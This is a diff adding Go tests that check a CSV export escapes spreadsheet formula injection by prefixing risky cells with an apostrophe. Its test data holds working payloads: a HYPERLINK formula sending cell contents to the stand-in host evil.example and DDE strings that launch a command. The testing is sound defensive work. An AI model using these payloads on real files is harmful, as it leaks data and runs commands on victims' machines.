@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"errors"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -198,5 +199,77 @@ func TestWriteErrors(t *testing.T) {
 	}
 	if _, err := NewWriter(failWriter{}, EventColumns(), Format(9), nil); err == nil {
 		t.Error("unknown format accepted")
+	}
+}
+
+// TestCSVFormulaInjection: a cell that a spreadsheet would run as a formula
+// (OWASP CSV Injection, ASVS 1.2.10) is written with an apostrophe in front,
+// in the events and in the summary; JSON keeps the value as it is; ordinary
+// values, ours and people's, are untouched.
+func TestCSVFormulaInjection(t *testing.T) {
+	attacks := []string{
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"=cmd|' /C calc'!A0",
+		"+1+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		"\t=1+1",
+		"\r=1+1",
+		"\x00=1+1",
+	}
+	at := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
+	var rows []any
+	for i, a := range attacks {
+		rows = append(rows, store.Event{ID: int64(i + 1), At: at, Kind: store.EventOnLogin, Username: a, Station: a, Detail: a,
+			Distance: 0.25, HasDistance: true})
+	}
+	rows = append(rows, store.Event{ID: 99, At: at, Kind: store.EventLoginSuccess, Username: "ann-marie", Station: "hall 2",
+		Detail: "exit 0: a=b", Distance: 0.3, HasDistance: true})
+	recs, err := csv.NewReader(strings.NewReader(write(t, EventColumns(), CSV, time.UTC, rows...))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, a := range attacks {
+		rec := recs[i+1]
+		want := "'" + a
+		for _, col := range []int{3, 4, 6} { // user, station, detail
+			if rec[col] != want {
+				t.Errorf("attack %d column %d: %q, want %q", i, col, rec[col], want)
+			}
+		}
+		if rec[0] != strconv.Itoa(i+1) || rec[1] != "2026-11-30T09:00:00Z" || rec[5] != "0.2500" {
+			t.Errorf("attack %d: our own values changed: %q", i, rec)
+		}
+	}
+	if got := recs[len(recs)-1]; !reflect.DeepEqual(got, []string{"99", "2026-11-30T09:00:00Z", "login_success", "ann-marie", "hall 2", "0.3000", "exit 0: a=b"}) {
+		t.Errorf("ordinary row changed: %q", got)
+	}
+
+	sum := store.DaySummary{Day: time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC), User: "@admin", First: at, Last: at, CheckIns: 1}
+	recs, err = csv.NewReader(strings.NewReader(write(t, SummaryColumns(), CSV, time.UTC, sum))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if recs[1][1] != "'@admin" {
+		t.Errorf("summary user %q", recs[1][1])
+	}
+
+	var objs []map[string]any
+	if err := json.Unmarshal([]byte(write(t, EventColumns(), JSON, time.UTC, rows[0])), &objs); err != nil {
+		t.Fatal(err)
+	}
+	if objs[0]["user"] != attacks[0] {
+		t.Errorf("JSON changed the value: %q", objs[0]["user"])
+	}
+}
+
+func TestSpreadsheetSafe(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "ann": "ann", "'=1": "'=1", " =1": " =1", "0.25": "0.25", "=1": "'=1", "+1": "'+1", "-1": "'-1",
+		"@a": "'@a", "\t": "'\t", "\r": "'\r", "\x00": "'\x00", "a=1": "a=1",
+	} {
+		if got := SpreadsheetSafe(in); got != want {
+			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", in, got, want)
+		}
 	}
 }
